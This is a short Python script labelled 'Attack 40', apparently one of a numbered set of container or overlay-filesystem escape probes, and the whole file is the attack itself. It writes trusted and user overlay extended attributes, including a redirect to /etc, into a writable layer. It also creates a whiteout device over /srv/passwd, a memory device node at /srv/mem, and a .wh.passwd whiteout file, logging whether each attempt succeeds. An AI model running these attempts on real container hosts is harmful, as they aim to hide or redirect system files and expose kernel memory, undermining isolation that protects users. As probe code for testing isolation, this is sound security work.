"""Attack 40: plant overlay's own marks in the writable layer, so that they act when it becomes a lower. One line per attempt."""

import errno
import os

os.makedirs("/srv/marked", exist_ok=True)
with open("/srv/marked/f", "w") as file:
    file.write("f\n")


def attempt(what, act):
    try:
        act()
    except OSError as error:
        print(what, errno.errorcode[error.errno], flush=True)
    else:
        print(what, "done", flush=True)


for space in ("trusted", "user"):
    for mark, value in (
        ("redirect", b"/etc"),
        ("opaque", b"y"),
        ("metacopy", b""),
        ("whiteout", b""),
        ("origin", b"x"),
    ):
        name = f"{space}.overlay.{mark}"
        for path in ("/srv/marked", "/srv/marked/f"):
            attempt(f"{name} {path}", lambda name=name, path=path, value=value: os.setxattr(path, name, value))
attempt("whiteout /srv/passwd", lambda: os.mknod("/srv/passwd", 0o020000, os.makedev(0, 0)))
attempt("device /srv/mem", lambda: os.mknod("/srv/mem", 0o020666, os.makedev(1, 1)))
with open("/srv/.wh.passwd", "w") as file:
    file.write("")
